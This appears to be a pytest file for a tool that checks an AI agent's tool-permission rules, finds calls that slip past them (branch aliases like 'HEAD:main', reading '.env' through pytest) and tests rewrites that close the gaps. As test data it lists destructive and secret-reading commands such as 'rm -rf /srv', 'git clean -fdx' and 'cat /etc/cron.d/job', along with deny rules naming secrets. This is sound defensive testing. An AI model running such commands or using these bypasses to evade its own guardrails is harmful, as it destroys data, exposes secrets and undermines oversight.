    "an element beside one that is let through": (
        "Only blue or red tags are printed.", "Label", 'not any(tag in {"blue", "red"} for tag in call.tags)',
        TriedCall("label", {"tags": ["blue", "other"]}), TriedCall("label", {"tags": ["red", "blue"]})),
    "a command in the place of another tool": (
        "List only below /srv/docs.", "SendFile", '"/srv/docs" not in call.path.inside',
        TriedCall("run", {"command": "cat /etc/cron.d/job"}),
        TriedCall("run", {"command": "cat /srv/docs/a"})),
    "a number that calls add up to": (
        "A loan is extended by at most 4 weeks.", "ExtendLoan", "call.weeks > 4",
        TriedCall("extend_loan", {"loan": "loan1", "weeks": 3}),
        TriedCall("extend_loan", {"loan": "x", "weeks": 4})),
    "another program, of which only one use has the effect": (
        "Delete nothing.", "Run_", '"rm" in call.command.programs',
        TriedCall("run", {"command": "unlink /srv/data"}), TriedCall("run", {"command": "find . -name x"})),
}  # fmt: skip


@pytest.mark.parametrize("kind", ODD)
def test_a_rewriting_closes_what_is_shown_and_nothing_beside(kind: str) -> None:
    sentence, name, condition, passing, harmless = ODD[kind]
    logged = [RecordedCall("log", n, one.tool, one.arguments, result="{}") for n, one in enumerate(_LOGGED)]
    book = one_rule(PRESS, name, condition, sentence, logged=logged)
    source = book.language.source
    tried = HolesByRule(book)
    (found,) = (one for one in tried.of(book.rules[0]) if any(passing in each.calls for each in one.every))

    assert _decided(source, found.shown.calls, PRESS) is Verdict.ALLOW
    if harmless is None:  # the tool says nothing of the kind of its fields
        assert found.closing is None and "agent.toml" in str(found.attempt.advice)
        return
    assert found.closing is not None
    text, _ = with_effect(book.language, source, found.closing.effect, open_default=True)
    assert _decided(text, found.shown.calls, PRESS) is not Verdict.ALLOW
    assert _decided(text, (harmless,), PRESS) is Verdict.ALLOW
    empty = (TriedCall("label", {"tags": []}),)
    assert name != "Label" or _decided(source, empty, PRESS) is _decided(text, empty, PRESS) is Verdict.DENY


REPOSITORY = read_agent("""
name = "repository"

[tools.git_push.parameters]
type = "object"
required = ["remote", "branch"]
properties = {remote = {type = "string"}, branch = {type = "string"}}

[tools.read_file]
fields = {path = {type = "path"}}
parameters = {type = "object", required = ["path"], properties = {path = {type = "string"}}}

[tools.run_command]
fields = {command = {type = "command"}}
parameters = {type = "object", required = ["command"], properties = {command = {type = "string"}}}
""")


def shown_in_repository(*rules: tuple[str, str]) -> list[TriedCall]:
    """The calls that the questions about rules of a repository show."""
    parts = [
        f'def forbid_{number}(call: {name}) -> bool:\n    """R{number}: No."""\n    return {condition}\n'
        for number, (name, condition) in enumerate(rules)
    ]
    start = '"""One."""\n\nfrom agent import GitPush, ReadFile, RunCommand\n\nDEFAULT = "allow"\n\n\n'
    source = start + "\n\n".join(parts)
    book = book_of(source, REPOSITORY)
    return [call for one in witnesses(book, HolesByRule(book), {}) for call in one.calls]


def test_a_value_that_another_rule_denies_is_no_answer_to_a_hole_and_another_is_taken() -> None:
    branch, remote = 'call.branch == "main"', 'call.remote != "origin"'
    shown = shown_in_repository(("GitPush", branch), ("GitPush", remote))
    assert TriedCall("git_push", {"remote": "origin", "branch": "refs/heads/main"}) in shown
    shown = shown_in_repository(("GitPush", 'call.branch.strip().lower() == "main"'), ("GitPush", remote))
    assert all(call.arguments["branch"] == "HEAD:main" for call in shown if call.tool == "git_push")


def test_a_program_that_may_run_is_tried_where_the_usual_one_may_not() -> None:
    env, only = 'call.path.name == ".env"', 'not call.command.calls <= {"pytest", "ls"}'
    shown = shown_in_repository(("ReadFile", env), ("RunCommand", only))
    assert TriedCall("run_command", {"command": "pytest /home/agent/.env"}) in shown
    reads = 'any(each.name == ".env" for each in call.command.reads)'
    shown = shown_in_repository(("ReadFile", env), ("RunCommand", only), ("RunCommand", reads))
    assert all(call.tool != "run_command" for call in shown)


def test_the_other_texts_of_a_branch_to_which_git_pushes_are_asked_about() -> None:
    shown = shown_in_repository(("GitPush", 'call.branch == "main"'))
    assert any(call.arguments["branch"] == "HEAD:main" for call in shown)
    shown = shown_in_repository(("GitPush", 'not call.branch.startswith("agent/")'))
    assert any(call.arguments["branch"] == "agent/x:main" for call in shown)
    plain = 'call.branch == "main" or ":" in call.branch or "+" in call.branch or "/" in call.branch'
    assert all("HEAD" not in str(call) for call in shown_in_repository(("GitPush", plain)))


def test_a_command_that_a_tool_is_named_after_is_asked_about_and_such_a_tool_beside_a_command() -> None:
    by_tool = TriedCall("git_push", {"remote": "remote1", "branch": "branch2"})
    by_command = TriedCall("run_command", {"command": "git push remote1 main"})
    main, pushes = ("GitPush", 'call.branch == "main"'), ("RunCommand", '"git push" in call.command.calls')
    assert by_command in shown_in_repository(main)
    assert by_tool in shown_in_repository(pushes)
    only = ("RunCommand", 'not call.command.calls <= {"ls"}')
    for rules in ((main, pushes), (main, only)):
        assert not [call for call in shown_in_repository(*rules) if "git push" in str(call)]


MAILBOX = read_agent("""
name = "mailbox"

[tools.read_mail]
parameters = {type = "object", required = ["number"], properties = {number = {type = "string"}}}

[tools.send_mail]
description = "Send a mail."
fields = {"to[]" = {type = "mail_address"}}

[tools.send_mail.parameters]
type = "object"
required = ["to", "body"]
properties = {to = {type = "array", items = {type = "string"}}, body = {type = "string"}}

[tools.share_file]
description = "Share a file with somebody."
fields = {with_address = {type = "mail_address"}}

[tools.share_file.parameters]
type = "object"
required = ["file_id", "with_address"]
properties = {file_id = {type = "string"}, with_address = {type = "string"}}
""")


@pytest.mark.parametrize(
    ("tool", "field", "said"),
    [
        (
            "ReadMail",
            "number",
            "or there was an earlier call to read mail (where its number is the “with address”'s address).",
        ),
        ("SendMail", "body", "The agent must never share a file."),
    ],
)
def test_what_a_rule_says_of_earlier_calls_of_another_tool_is_offered_for_a_tool_that_does_the_same(
    tool: str, field: str, said: str
) -> None:
    known = f"any(c.{field} == one.address for c in run.earlier({tool}))"
    senders = f'not all(one.domain == "example.com" or {known} for one in call.to)'
    book = one_rule(MAILBOX, "SendMail", senders, "Mail goes to us and to senders.")
    (found,) = (one for one in witnesses(book, HolesByRule(book), {}) if one.calls[-1].tool == "share_file")
    assert said in found.question.options[0].label
    text, _ = with_effect(book.language, book.language.source, found.effects[CLOSED], open_default=True)
    assert _decided(text, found.calls, MAILBOX) is Verdict.DENY


SECRET_NAMES = 'any("secrets" in p.names for p in call.command.reads)'
WHOLE_FOLDERS = {
    SECRET_NAMES: ("grep -r x .", "git grep x"),
    'any(p.name == ".env" for p in call.command.paths)': ("grep -r x .", "git clean -fdx"),
    'any("/srv/secrets" in p.inside for p in call.command.reads)': ("grep -r x /srv", "tar cf /tmp/a.tar ."),
    'any("migrations" in p.names for p in call.command.writes)': ("rm -rf .", "git checkout ."),
    'any("/srv/src" not in p.inside for p in call.command.writes)': ("git -C /srv checkout .", "git stash"),
    '"rm" in call.command.programs and any("/srv/a" in p.inside for p in call.command.paths)': (
        "rm -rf /srv", "rm -rf ."),
}  # fmt: skip
"""A condition on the files of a command, the call over all of a folder that is shown, and another one."""


@pytest.mark.parametrize("condition", WHOLE_FOLDERS)
def test_a_command_over_the_folder_of_closed_files_is_asked_about_and_its_answer_stops_it(
    condition: str,
) -> None:
    shown, other = WHOLE_FOLDERS[condition]
    found, book, source = office(("The files are closed.", "RunCommand", condition))
    (asked,) = [one for one in found if one.calls == (TriedCall("run", {"command": shown}),)]
    text, _ = with_effect(book.language, source, asked.effects[CLOSED], open_default=True)

    for command in (shown, other):
        assert _decided(source, (TriedCall("run", {"command": command}),), TOOLS) is Verdict.ALLOW
        assert _decided(text, (TriedCall("run", {"command": command}),), TOOLS) is Verdict.DENY
    for command in ("ls", "git status", "cat src/a.py", "git commit -m x"):
        run = (TriedCall("run", {"command": command}),)
        assert _decided(text, run, TOOLS) is _decided(source, run, TOOLS)


@pytest.mark.parametrize(
    "condition",
    [
        f"{SECRET_NAMES} or len(call.command.trees) > 0",
        'not call.command.programs <= {"ls", "cat"} or ' + SECRET_NAMES,
        'any("secrets" in p.names for p in call.command.runs)',
    ],
)
def test_nothing_is_asked_where_trees_are_spoken_of_or_no_command_over_a_folder_passes(
    condition: str,
) -> None:
    found, *_ = office(("Secrets are closed.", "RunCommand", condition))
    assert not [one for one in found if "it goes through all of" in one.question.text]


def test_tests_that_were_run_before_still_run_where_commands_over_folders_are_stopped() -> None:
    logged = [
        RecordedCall("r", n, "run", {"command": one}, result="", ran=True, known_from=n + 1)
        for n, one in enumerate(("pytest", "ls"))
    ]
    book = one_rule(TOOLS, "Run_", SECRET_NAMES, logged=logged)
    source, found = book.language.source, witnesses(book, HolesByRule(book), {})
    (asked,) = (one for one in found if "it goes through all of" in one.question.text)
    text, _ = with_effect(book.language, source, asked.effects[CLOSED], open_default=True)

    for command, verdict in (("pytest", Verdict.ALLOW), ("pytest; grep -r x .", Verdict.DENY)):
        assert _decided(text, (TriedCall("run", {"command": command}),), TOOLS) is verdict


@pytest.mark.parametrize(
    ("name", "text", "kind"),
    [
        ("with_address", "lee@corp.example", "mail_address"),
        ("with_address", "Lee <lee@corp.example>", "mail_address"),
        ("addresses", "@corp.example", "mail_address"),
        ("address", "Main Street 5", ""),
        ("note", "Lee <lee@corp.example>", "mail_address"),
        ("note", "mail lee@corp.example today", ""),
    ],
)
def test_an_address_is_told_by_what_its_texts_are_like(name: str, text: str, kind: str) -> None:
    field = CallField(name, name, ArgumentType(Kind.STR))
    assert kind_of_field(field, [text]) == kind


@pytest.mark.parametrize(
    ("sentence", "condition", "is_asked"),
    [
        ("Pages come from docs.acme.example.", 'call.url.host != "docs.acme.example"', True),
        ("Pages come from docs.acme.example or its twin.",
         'call.url.host not in {"docs.acme.example", "twin.acme.example"}', True),
        ("Pages come from docs.acme.example, by http at any port.",
         'call.url.host != "docs.acme.example"', False),
        ("Pages come from here.", 'call.url.host != "localhost"', False),
        ("Pages come from docs.acme.example by https.",
         'call.url.host != "docs.acme.example" or call.url.scheme != "https"', False),
        ("Nothing comes from docs.acme.example.", 'call.url.host == "docs.acme.example"', False),
    ],
)  # fmt: skip
def test_another_way_to_a_host_is_asked_once_where_a_rule_compares_the_host_alone(
    sentence: str, condition: str, is_asked: bool
) -> None:
    found, book, source = office((sentence, "LoadPage", condition))
    ways = [one for one in found if CLOSED in one.effects and "not encrypted" in one.question.text]
    assert len(ways) == is_asked
    for one in ways:
        text, _ = with_effect(book.language, source, one.effects[CLOSED], open_default=True)
        for url, is_open in {"https": True, "http": False, "ftp": False}.items():
            call = TriedCall("load_page", {"url": f"{url}://docs.acme.example/a"})
            assert (_decided(text, (call,), TOOLS) is Verdict.ALLOW) == is_open
        at_port = TriedCall("load_page", {"url": "https://docs.acme.example:8443/a"})
        assert _decided(text, (at_port,), TOOLS) is not Verdict.ALLOW
